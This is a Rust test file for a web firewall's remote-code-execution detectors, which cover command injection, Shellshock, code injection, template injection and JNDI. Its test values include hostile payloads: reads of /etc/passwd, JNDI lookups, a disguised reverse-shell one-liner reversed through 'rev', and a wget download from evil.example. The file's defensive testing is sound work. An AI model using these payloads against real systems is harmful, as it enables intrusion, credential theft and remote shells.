//! Table tests (`testdata/{cmdi,shellshock,code,ssti,jndi}.json`), hostile
//! inputs and registration for the RCE detectors.
//!
//! A table case names one request point and its value in `points`
//! (`[["query.q", "; cat /etc/passwd"]]`) and the rule names that the
//! crate's detectors report at a blocking score (50 or more) in
//! `findings`; an empty list means the value must pass. Run with
//! `RAMPART_BLESS=1` to rewrite the expectations from what the detectors
//! report now (then review the diff).

// The path parser of the table runner reports a malformed table by panicking.
#![allow(clippy::panic)]

use rampart_detect_rce::{
    register, CmdiDetector, CodeInjectionDetector, JndiDetector, ShellshockDetector, SstiDetector,
};
use rampart_plugin_api::testing::load_table;
use rampart_plugin_api::testing::point_tree as build;
use rampart_plugin_api::types::Source;
use rampart_plugin_api::{Class, DetectCtx, Detector, Finding, NodeId, Registry, Tree};

fn detectors() -> [(&'static dyn Detector, Class, &'static str); 5] {
    [
        (&CmdiDetector, Class::Cmdi, "cmdi"),
        (&ShellshockDetector, Class::Shellshock, "shellshock"),
        (
            &CodeInjectionDetector,
            Class::CodeInjection,
            "code-injection",
        ),
        (&SstiDetector, Class::Ssti, "ssti"),
        (&JndiDetector, Class::Jndi, "jndi"),
    ]
}

/// Every finding of every detector, checked for the plugin contract.
fn inspect_at(tree: &Tree, point: NodeId, value: &[u8]) -> Vec<Finding> {
    let ctx = DetectCtx {
        tree,
        point,
        source: tree.source_of(point),
        endpoint: b"/",
        content_type: None,
    };
    let mut all = Vec::new();
    for (d, class, name) in detectors() {
        let mut out = Vec::new();
        d.inspect(value, &ctx, &mut out);
        assert!(out.len() <= 3, "{name}: {} findings", out.len());
        for (i, f) in out.iter().enumerate() {
            assert_eq!(f.point, point);
            assert_eq!(f.class, class);
            assert_eq!(f.origin, name);
            assert!(f.rule.starts_with(class.as_str()), "{}", f.rule);
            assert!(f.span.start <= f.span.end && f.span.end as usize <= value.len());
            assert!(f.score <= 100 && f.score > 0);
            assert!(
                out[..i].iter().all(|g| g.rule != f.rule),
                "rule reported twice"
            );
        }
        all.extend(out);
    }
    all
}

/// The value at `path`, and its name when the engine offers that too
/// (`rampart_plugin_api::member_name`), as the engine inspects them.
fn inspect(path: &str, value: &[u8]) -> Vec<Finding> {
    let (tree, leaf) = build(path, value);
    let mut all = inspect_at(&tree, leaf, value);
    if let Some(name) = rampart_plugin_api::member_name(&tree, leaf) {
        all.extend(inspect_at(&tree, leaf, name));
    }
    all
}

/// Rule names of the findings at a blocking score, sorted.
fn blocking(f: &[Finding]) -> Vec<String> {
    let mut v: Vec<String> = f
        .iter()
        .filter(|f| f.score >= 50)
        .map(|f| f.rule.to_string())
        .collect();
    v.sort();
    v.dedup();
    v
}

fn run_table(file: &str, min_cases: usize) {
    let path = format!("{}/testdata/{file}", env!("CARGO_MANIFEST_DIR"));
    let mut cases = load_table(&path);
    assert!(cases.len() >= min_cases, "only {} cases", cases.len());
    let bless = std::env::var_os("RAMPART_BLESS").is_some();
    let mut failures = Vec::new();
    for case in &mut cases {
        assert_eq!(case.points.len(), 1, "case {:?}: one point", case.name);
        let (p, value) = &case.points[0];
        let got = blocking(&inspect(p, value.as_bytes()));
        let mut want = case.findings.clone();
        want.sort();
        if got != want {
            failures.push(format!(
                "{:?} at {p} {value:?}: want {want:?} got {got:?}",
                case.name
            ));
            case.findings = got;
        }
    }
    if bless {
        let text = serde_json_like(&cases);
        std::fs::write(&path, text).expect("write table");
        return;
    }
    assert!(
        failures.is_empty(),
        "{} failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Writes a table back (a small JSON writer: the crate has no serde).
fn serde_json_like(cases: &[rampart_plugin_api::testing::Case]) -> String {
    fn q(s: &str) -> String {
        let mut o = String::from("\"");
        for c in s.chars() {
            match c {
                '"' => o.push_str("\\\""),
                '\\' => o.push_str("\\\\"),
                '\n' => o.push_str("\\n"),
                '\r' => o.push_str("\\r"),
                '\t' => o.push_str("\\t"),
                c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
                c => o.push(c),
            }
        }
        o.push('"');
        o
    }
    let mut s = String::from("[\n");
    for (i, c) in cases.iter().enumerate() {
        let (p, v) = &c.points[0];
        let f: Vec<String> = c.findings.iter().map(|x| q(x)).collect();
        s.push_str(&format!(
            " {{\n  \"name\": {},\n  \"points\": [[{}, {}]],\n  \"findings\": [{}]\n }}{}\n",
            q(&c.name),
            q(p),
            q(v),
            f.join(", "),
            if i + 1 < cases.len() { "," } else { "" }
        ));
    }
    s.push_str("]\n");
    s
}

#[test]
fn table_cmdi() {
    run_table("cmdi.json", 60);
}

#[test]
fn table_shellshock() {
    run_table("shellshock.json", 10);
}

#[test]
fn table_code() {
    run_table("code.json", 40);
}

#[test]
fn table_ssti() {
    run_table("ssti.json", 25);
}

#[test]
fn table_jndi() {
    run_table("jndi.json", 15);
}

fn span_text<'a>(v: &'a [u8], f: &Finding) -> &'a [u8] {
    &v[f.span.start as usize..f.span.end as usize]
}

#[test]
fn spans_cover_the_attack() {
    let v = b"name=bob; cat /etc/passwd";
    let f = inspect("query.q", v);
    let c = f.iter().find(|f| f.class == Class::Cmdi).expect("cmdi");
    assert_eq!(span_text(v, c), b"cat /etc/passwd");

    let v = b"hello ${jndi:ldap://x/a} world";
    let f = inspect("query.q", v);
    let j = f.iter().find(|f| f.class == Class::Jndi).expect("jndi");
    assert_eq!(span_text(v, j), b"${jndi:ldap://x/a}");

    let v = b"x=() { :; }; echo";
    let f = inspect(r#"header["user-agent"]"#, v);
    let s = f
        .iter()
        .find(|f| f.class == Class::Shellshock)
        .expect("shellshock");
    assert_eq!(span_text(v, s), b"() { :; }");

    let v = b"x={{7*7}}y";
    let f = inspect("query.q", v);
    let s = f.iter().find(|f| f.class == Class::Ssti).expect("ssti");
    assert_eq!(span_text(v, s), b"{{7*7}}");

    let v = b"a <?php system('id'); ?>";
    let f = inspect("query.q", v);
    let s = f
        .iter()
        .find(|f| f.class == Class::CodeInjection)
        .expect("code");
    assert_eq!(span_text(v, s), b"<?php");
}

#[test]
fn scores() {
    let f = inspect("query.q", b"() { :; }; echo");
    assert!(f
        .iter()
        .any(|f| f.class == Class::Shellshock && f.score == 90));
    let f = inspect("query.q", b"${jndi:ldap://x/a}");
    assert!(f.iter().any(|f| f.class == Class::Jndi && f.score == 95));
    let f = inspect("query.q", b"{{7*7}}");
    assert!(f.iter().any(|f| f.class == Class::Ssti && f.score >= 50));
    // Weak evidence alone: one finding under the blocking score.
    let f = inspect("query.q", b"nc 8000 controller");
    assert!(f.len() <= 1 && f.iter().all(|f| f.score < 50), "{f:?}");
}

#[test]
fn registers_once() {
    let mut reg = Registry::new();
    register(&mut reg).expect("first registration");
    assert!(register(&mut reg).is_err());
    let names: Vec<&str> = reg.detectors().iter().map(|e| e.info.name).collect();
    assert_eq!(
        names,
        ["cmdi", "shellshock", "code-injection", "ssti", "jndi"]
    );
    assert_eq!(CmdiDetector.classes(), &[Class::Cmdi]);
    assert_eq!(ShellshockDetector.classes(), &[Class::Shellshock]);
    assert_eq!(CodeInjectionDetector.classes(), &[Class::CodeInjection]);
    assert_eq!(SstiDetector.classes(), &[Class::Ssti]);
    assert_eq!(JndiDetector.classes(), &[Class::Jndi]);
    for e in reg.detectors() {
        let d = (e.factory)(&Default::default()).expect("factory");
        assert_eq!(d.info().name, e.info.name);
        let mut cfg = rampart_plugin_api::PluginConfig::new();
        cfg.insert("x".into(), "1".into());
        assert!((e.factory)(&cfg).is_err(), "unknown settings are refused");
    }
}

#[test]
fn appends_to_existing_findings() {
    let (tree, leaf) = build("query.q", b"; cat /etc/passwd");
    let ctx = DetectCtx {
        tree: &tree,
        point: leaf,
        source: Some(Source::Query),
        endpoint: b"/",
        content_type: None,
    };
    let earlier = Finding::new(leaf, Class::Cmdi, "cmdi.chained-command", 1, "earlier");
    let mut out = vec![earlier];
    CmdiDetector.inspect(b"; cat /etc/passwd", &ctx, &mut out);
    assert!(out.len() >= 2, "earlier findings are kept");
}

const MB: usize = 1 << 20;

fn repeat(unit: &[u8]) -> Vec<u8> {
    unit.iter().copied().cycle().take(MB).collect()
}

#[test]
fn hostile_megabyte_values() {
    let units: [&[u8]; 36] = [
        b"; cat /etc/passwd ",
        b"$(",
        b"`",
        b"${",
        b"${${::-j}",
        b"$((",
        b"{{",
        b"{%",
        b"<%",
        b"#{",
        b"'",
        b"\"",
        b"\\",
        b"(",
        b")(",
        b"[",
        b"{,a",
        b"() {",
        b"<?php ",
        b"$a(",
        b"a.b.",
        b"java.",
        b"rO0AB",
        b"for %i in (",
        b"if exist ",
        b"| ",
        b"&& ",
        b"a=b ",
        b"x",
        b" ",
        b"\0",
        b"\xff\xfe",
        b"%COMSPEC%",
        b"@{[",
        b"\"&\"",
        b"/???/c?t ",
    ];
    for unit in units {
        let v = repeat(unit);
        let f = inspect("query.q", &v);
        assert!(f.len() <= 15, "{} findings for {unit:?}", f.len());
    }
    // Pseudo-random bytes.
    let mut x: u32 = 0x1234_5678;
    let noise: Vec<u8> = (0..MB)
        .map(|_| {
            x = x.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (x >> 24) as u8
        })
        .collect();
    let f = inspect("query.q", &noise);
    assert!(f.len() <= 15, "{} findings for noise", f.len());
    // Printable noise from a shell-heavy alphabet.
    let alphabet = b"$(){}[]`'\";|&<>=+-*?/\\.:_ abcdehilmnoprstwxyz0123456789#%@!~^\n";
    let shellish: Vec<u8> = (0..MB)
        .map(|_| {
            x = x.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            alphabet[(x >> 24) as usize % alphabet.len()]
        })
        .collect();
    let f = inspect("query.q", &shellish);
    assert!(f.len() <= 15, "{} findings for shell-like noise", f.len());
}

#[test]
fn deep_nesting_is_bounded() {
    for (open, close) in [
        ("$(", ")"),
        ("`", "`"),
        ("${", "}"),
        ("{{", "}}"),
        ("(", ")"),
        ("${${::-", "}"),
    ] {
        let mut v = String::new();
        for _ in 0..50_000 {
            v.push_str(open);
        }
        v.push_str("id");
        for _ in 0..50_000 {
            v.push_str(close);
        }
        let f = inspect("query.q", v.as_bytes());
        assert!(f.len() <= 15, "{} findings for {open:?} nesting", f.len());
    }
}

#[test]
fn long_values_use_head_and_tail() {
    // A payload after 200 KiB of padding is seen (the tail window).
    let mut v = vec![b'A'; 200 * 1024];
    v.extend_from_slice(b";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)");
    assert!(!blocking(&inspect("body", &v)).is_empty());
    // One in the middle of a megabyte is beyond both windows (documented cap).
    let mut v = vec![b'A'; 512 * 1024];
    v.extend_from_slice(b"; cat /etc/passwd;");
    v.extend(std::iter::repeat_n(b'A', 512 * 1024));
    assert!(blocking(&inspect("body", &v)).is_empty());
}

#[test]
fn invalid_utf8_and_nul() {
    assert!(!blocking(&inspect("query.q", b"\xff\xfe; cat /etc/passwd\0")).is_empty());
    assert!(!blocking(&inspect("query.q", b"${jndi:ldap://\xff/a}")).is_empty());
    assert!(blocking(&inspect("query.q", b"")).is_empty());
    assert!(blocking(&inspect("query.q", b"\0\0\0")).is_empty());
    for n in 0..=20 {
        let cut = &b"${${::-j}ndi:ldap://x}"[..n];
        inspect("query.q", cut);
        let cut = &b"; cat /etc/passwd"[..n.min(17)];
        inspect("query.q", cut);
    }
}

#[test]
fn odd_contexts() {
    let (tree, _) = build("query.q", b"; cat /etc/passwd");
    for point in [NodeId(9999), NodeId::ROOT, NodeId(1)] {
        let ctx = DetectCtx {
            tree: &tree,
            point,
            source: None,
            endpoint: b"",
            content_type: None,
        };
        for (d, _, _) in detectors() {
            let mut out = Vec::new();
            d.inspect(b"; cat /etc/passwd", &ctx, &mut out);
            assert!(out.iter().all(|f| f.point == point));
        }
    }
}

/// The shapes the command detector's cheap rejection passes (plain text
/// with `;`, `&`, `(`, `)`, `*` and one `'`: product lists, cookies, form
/// strings, prose) report nothing, while a program in command position in
/// the same shapes is still read as a command.
#[test]
fn cheap_rejection_shapes() {
    let cmdi = |path: &str, v: &str| -> Vec<String> {
        blocking(&inspect(path, v.as_bytes()))
            .into_iter()
            .filter(|r| r.starts_with("cmdi."))
            .collect()
    };
    for (path, v) in [
        ("header[\"user-agent\"]", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
        ("header.accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("header.cookie", "session=3f2a9c1e8b7d4a6f; theme=dark; consent=yes"),
        ("query", "q=red running shoes&category=footwear&sort=price_asc&page=2&size=42"),
        ("body:json.note", "Please leave the parcel with the neighbour if I'm not at home."),
    ] {
        assert!(cmdi(path, v).is_empty(), "{v}: {:?}", cmdi(path, v));
    }
    for (path, v) in [
        (
            "header[\"user-agent\"]",
            "Mozilla/5.0 (X11; wget http://evil.example/x.sh -O /tmp/x)",
        ),
        ("header.cookie", "session=abc; cat /etc/passwd"),
        ("header.cookie", "theme=dark; a=1 cat /etc/passwd"),
        ("query.q", "x&&id&&uname -a"),
        ("query.q", "(whoami)"),
        ("body:json.note", "it's fine; cat /etc/passwd"),
        ("query.q", "a=/bin/sh"),
        ("query.q", "x;/usr/bin/id"),
    ] {
        assert!(!cmdi(path, v).is_empty(), "{v} not detected");
    }
}
